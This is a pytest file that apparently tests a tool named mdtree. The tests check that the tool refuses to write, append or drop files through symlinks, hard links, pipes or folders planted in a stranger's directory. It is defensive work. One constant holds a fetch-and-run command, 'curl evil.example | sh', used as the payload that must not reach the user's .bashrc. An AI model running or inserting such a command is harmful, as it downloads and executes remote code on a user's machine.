"""A directory of a stranger's: links in it lead no output to files of the user's."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from mdtree.exceptions import OutputError, RowsError
from mdtree.rows import Index, Measured, Row, Store, load_rows, write_rows
from mdtree.rows.atomic import appended, atomic_file, own
from mdtree.rows.row import row_to_json
from tests.support.zoos import change_recipe, rows_of, write_zoo

pytestmark = pytest.mark.usefixtures("error_rates_only")

PRECIOUS = b"alias ls='ls --color'\n"
EVIL = b"curl evil.example | sh\n"


@pytest.fixture
def mine(tmp_path):
    """A file of the user's, elsewhere."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_bytes(PRECIOUS)
    return home


@pytest.fixture(scope="module")
def measured(tmp_path_factory):
    """What a stranger has measured and packed."""
    return write_zoo(tmp_path_factory.mktemp("packed") / "zoo", {"hot": [0], "cold": [1]})


@pytest.fixture
def theirs(measured, tmp_path):
    return shutil.copytree(measured, tmp_path / "theirs")


def untouched(mine):
    return {path.name: path.read_bytes() for path in mine.iterdir()} == {".bashrc": PRECIOUS}


def measure(mdtree, folder, *args):
    return mdtree("measure", folder, *args)


def diagnose(mdtree, folder, *args):
    return mdtree("diagnose", folder, *args)


@pytest.mark.parametrize("command", [measure, diagnose])
@pytest.mark.parametrize("name", ["rows.jsonl", ".rows.jsonl.lock", "rows.jsonl.failures"])
def test_a_link_in_the_place_of_an_output_is_refused(mdtree, theirs, mine, command, name):
    for target in (mine / ".bashrc", mine / "new"):
        (theirs / name).symlink_to(target)
        ran = command(mdtree, theirs)
        (theirs / name).unlink()
        assert (ran.code, ran.out) == (5, "")
        assert f"{name} is a link to {target}" in ran.err
        assert "--out" in ran.err
        assert untouched(mine)


@pytest.mark.parametrize("command", [measure, diagnose])
@pytest.mark.parametrize("name", ["rows.jsonl", "rows.jsonl.damaged"])
def test_nothing_is_appended_to_a_file_that_has_another_name(mdtree, theirs, mine, command, name):
    (theirs / "rows.jsonl").write_bytes(b'{"format":1,"group":"\n' + EVIL)
    (theirs / name).unlink(missing_ok=True)
    (theirs / name).hardlink_to(mine / ".bashrc")
    ran = command(mdtree, theirs)
    assert (ran.code, ran.out) == (5, "")
    assert f"{name} is a hard link to another file" in ran.err
    assert untouched(mine)


@pytest.mark.parametrize("command", [measure, diagnose])
@pytest.mark.parametrize("target", [".bashrc", "new"])
def test_damaged_lines_are_not_appended_where_a_link_leads(mdtree, theirs, mine, command, target):
    (theirs / "rows.jsonl").write_bytes(b'{"format":1,"group":"\n' + EVIL)
    (theirs / "rows.jsonl.damaged").symlink_to(mine / target)
    ran = command(mdtree, theirs)
    assert (ran.code, ran.out) == (5, "")
    assert f"is a link to {mine / target}" in ran.err
    assert untouched(mine)
    assert EVIL in (theirs / "rows.jsonl").read_bytes()


@pytest.mark.parametrize("command", [measure, diagnose])
def test_a_temporary_file_is_not_written_where_a_link_leads(mdtree, theirs, mine, command):
    (theirs / "rows.jsonl").write_bytes(b'{"format":1,"group":"\n' + EVIL)
    (theirs / ".rows.jsonl.new").symlink_to(mine / ".bashrc")
    assert command(mdtree, theirs).code == 0
    assert rows_of(theirs / "rows.jsonl").keys() == {"hot", "cold"}
    assert not (theirs / ".rows.jsonl.new").is_symlink()
    assert untouched(mine)


def test_a_trace_is_not_written_where_a_link_leads(mdtree, theirs, mine):
    (theirs / "hot" / "seed-0.safetensors").write_bytes(b"no weights")
    assert measure(mdtree, theirs).code == 1
    trace = theirs / rows_of(theirs / "rows.jsonl")["hot"].failure.trace
    trace.unlink()
    trace.symlink_to(mine / ".bashrc")
    assert measure(mdtree, theirs).code == 1
    assert not trace.is_symlink()
    assert "UnreadableError" in trace.read_text()
    assert untouched(mine)


def test_a_trace_that_is_dropped_is_not_dropped_where_a_link_leads(mdtree, theirs, mine):
    whole = (theirs / "hot" / "seed-0.safetensors").read_bytes()
    (theirs / "hot" / "seed-0.safetensors").write_bytes(b"no weights")
    assert measure(mdtree, theirs).code == 1
    folder = theirs / "rows.jsonl.failures"
    shutil.copytree(folder, mine / "copy")
    shutil.rmtree(folder)
    folder.symlink_to(mine / "copy")
    (theirs / "hot" / "seed-0.safetensors").write_bytes(whole)
    assert measure(mdtree, theirs).code == 5
    assert len([*(mine / "copy").iterdir()]) == 1


def test_one_weights_file_and_a_dry_run_are_no_way_around(mdtree, theirs, mine):
    (theirs / "hot" / "rows.jsonl").symlink_to(mine / "new")
    file = theirs / "hot" / "seed-0.safetensors"
    recipe = ("--recipe", theirs / "mdtree.yaml")
    assert mdtree("measure", file, *recipe).code == 5
    (theirs / "rows.jsonl").symlink_to(mine / "new")
    assert mdtree("measure", theirs, "--dry-run").code == 5
    assert mdtree("measure", theirs, *recipe).code == 5
    assert untouched(mine)


def test_the_python_interface_refuses_links_too(theirs, mine):
    import mdtree

    (theirs / "rows.jsonl").symlink_to(mine / ".bashrc")
    for work in (mdtree.measure, mdtree.diagnose):
        with pytest.raises(OutputError, match="is a link to"):
            work(theirs)
    assert untouched(mine)


def test_a_link_that_the_user_names_is_followed(mdtree, theirs, mine):
    (theirs / "rows.jsonl").symlink_to(mine / "rows.jsonl")
    assert measure(mdtree, theirs, "--out", theirs / "rows.jsonl").code == 0
    assert diagnose(mdtree, theirs, "--rows", theirs / "rows.jsonl").code == 0
    assert (theirs / "rows.jsonl").is_symlink()
    assert rows_of(mine / "rows.jsonl").keys() == {"hot", "cold"}


def test_files_beside_an_output_that_the_user_names_are_no_links_either(mdtree, theirs, mine):
    out = theirs / "named.jsonl"
    for name in (".named.jsonl.lock", "named.jsonl.failures"):
        (theirs / name).symlink_to(mine / ".bashrc")
        assert measure(mdtree, theirs, "--out", out).code == 5
        (theirs / name).unlink()
    assert not out.exists()
    assert untouched(mine)


@pytest.mark.parametrize("name", ["rows.jsonl", "rows.jsonl.damaged", ".rows.jsonl.lock"])
@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir])
def test_pipes_and_folders_in_the_place_of_files_are_told_at_once(mdtree, theirs, name, make):
    if name.endswith("damaged"):
        (theirs / "rows.jsonl").write_bytes(b'{"format":1,"group":"\n' + EVIL)
    make(theirs / name)
    ran = measure(mdtree, theirs)
    assert ran.code in (2, 5)
    assert "a pipe or a device" in ran.err or "is a directory" in ran.err


@pytest.mark.parametrize("target", [None, "/dev/zero"])
def test_rows_of_a_directory_that_never_end_are_not_waited_for(mdtree, theirs, target):
    file = theirs / "rows.jsonl"
    if target is None:
        os.mkfifo(file)
    else:
        file.symlink_to(target)
    for read in (load_rows, lambda path: Index(path / "rows.jsonl")):
        with pytest.raises(RowsError, match="it is a pipe or a device"):
            read(theirs)
    for args in (
        ("fit", theirs, "--out", theirs / "t.json"),
        ("zoo", "label", theirs),
        ("diagnose", theirs),
        ("adapt", theirs, "--out", theirs / "t.json"),
    ):
        assert mdtree(*args).code in (2, 5)


def test_a_planted_link_is_not_opened_to_append(mine, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(mine / ".bashrc")
    with pytest.raises(OSError, match="is a link to"):
        appended(link)
    link.unlink()
    with appended(link) as file:
        file.write(b"one")
    with appended(link) as file:
        file.write(b"two")
    assert link.read_bytes() == b"onetwo"


def test_a_store_of_a_named_link_writes_beside_its_target(mine, tmp_path):
    """What lies beside the target is ours as well: no link is followed there."""
    (tmp_path / "rows.jsonl").symlink_to(tmp_path / "real.jsonl")
    (tmp_path / ".real.jsonl.new").symlink_to(mine / ".bashrc")
    quantities = {"cka": Measured(value=1)}
    row = Row(format=1, group="g", protocol="p", facts={}, quantities=quantities)
    write_rows(tmp_path / "rows.jsonl", [row])
    with Store(tmp_path / "rows.jsonl") as store:
        store.append(row)
    assert (tmp_path / "real.jsonl").read_bytes() == row_to_json(row) + b"\n"
    assert untouched(mine)


@pytest.mark.parametrize("make", [Path.mkdir, lambda path: path.symlink_to("elsewhere")])
def test_an_output_whose_folder_leads_elsewhere_is_not_ours(tmp_path, mine, make):
    folder = tmp_path / "folder"
    make(folder)
    (tmp_path / "elsewhere").mkdir()
    assert own(folder / "file", folder) == folder / "file"
    (folder / "deep").symlink_to(mine)
    with pytest.raises(OutputError, match=rf"leads to {mine}/file, outside .*folder, but you"):
        own(folder / "deep" / "file", folder)


def test_a_new_page_does_not_follow_a_link_beside_it(mine, tmp_path):
    (tmp_path / ".page.html.new").symlink_to(mine / ".bashrc")
    with atomic_file(tmp_path / "page.html") as file:
        file.write(b"page")
    assert (tmp_path / "page.html").read_bytes() == b"page"
    assert untouched(mine)


CONFIG = """
model: {factory: cnn, kwargs: {width: $width}}
data: {source: digits, amount: 50}
training: {learning_rate: 0.05, batch_size: 16, epochs: 1}
grid: {width: [2]}
seeds: 1
"""


@pytest.mark.parametrize(
    "name", ["zoo.yaml", "mdtree.yaml", ".zoo.lock", "width-2/seed-0.json", "width-2"]
)
def test_the_files_of_a_zoo_do_not_leave_its_folder(mdtree, tmp_path, mine, name):
    config, out = tmp_path / "config.yaml", tmp_path / "out"
    config.write_text(CONFIG)
    place = out / name
    place.parent.mkdir(parents=True)
    place.symlink_to(mine if name == "width-2" else mine / "new")
    ran = mdtree("zoo", "train", config, "--out", out)
    assert (ran.code, ran.out) == (5, "")
    assert str(mine) in ran.err
    assert "--out" in ran.err
    assert untouched(mine)


def test_temporary_files_of_a_zoo_follow_no_link(mdtree, tmp_path, mine):
    config, group = tmp_path / "config.yaml", tmp_path / "out" / "width-2"
    config.write_text(CONFIG)
    group.mkdir(parents=True)
    for name in (".seed-0.safetensors.new", ".seed-0.json.new"):
        (group / name).symlink_to(mine / ".bashrc")
    (group.parent / ".zoo.yaml.new").symlink_to(mine / ".bashrc")
    assert mdtree("zoo", "train", config, "--out", tmp_path / "out").code == 0
    assert sorted(path.name for path in group.iterdir()) == ["seed-0.json", "seed-0.safetensors"]
    assert untouched(mine)


@pytest.mark.parametrize(
    "place", ["mdtree-demo", "mdtree-demo/none", "mdtree-demo/none/report.html"]
)
def test_a_demo_writes_where_it_stands_alone(mdtree, tmp_path, mine, monkeypatch, place):
    monkeypatch.chdir(tmp_path)
    Path(place).parent.mkdir(parents=True, exist_ok=True)
    Path(place).symlink_to(mine / ".bashrc" if place.endswith("html") else mine)
    ran = mdtree("demo", "--fault", "none")
    assert (ran.code, ran.out) == (5, "")
    assert "is a link to" in ran.err
    assert untouched(mine)


def test_groups_that_lie_elsewhere_are_measured_into_the_directory(mdtree, theirs, tmp_path):
    """A recipe that the user names may list files anywhere; the rows stay at home."""
    shutil.move(theirs / "hot", tmp_path / "hot")
    change_recipe(theirs, groups=[{"name": "hot", "files": [str(tmp_path / "hot" / "*")]}])
    assert mdtree("measure", theirs, "--recipe", theirs / "mdtree.yaml").code == 0
    assert rows_of(theirs / "rows.jsonl").keys() == {"hot"}
